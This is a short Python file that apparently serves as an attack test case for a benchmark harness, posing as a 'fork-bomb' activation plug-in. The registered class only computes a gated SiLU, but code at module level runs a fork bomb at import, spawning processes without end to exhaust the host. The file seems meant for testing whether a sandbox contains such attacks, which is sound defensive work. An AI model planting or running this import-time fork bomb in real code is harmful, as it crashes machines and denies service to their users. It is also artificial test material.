# /// attack
# expect = ["passed", "failed", "timed_out_code"]
# ///
# /// swapbench
# kind = "activation"
# name = "fork-bomb"
# class = "E"
# devices = ["cpu", "cuda"]
# dtypes = ["float32", "bfloat16"]
# ///
"""Forks without end, and each child does too."""

import os

from torch.nn import functional

from engine.slots.registry import register

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            os.sched_yield()


@register("activation", "fork-bomb")
class ForkBomb:
    def forward(self, gate_up):
        gate, up = gate_up.chunk(2, dim=-1)
        return functional.silu(gate) * up
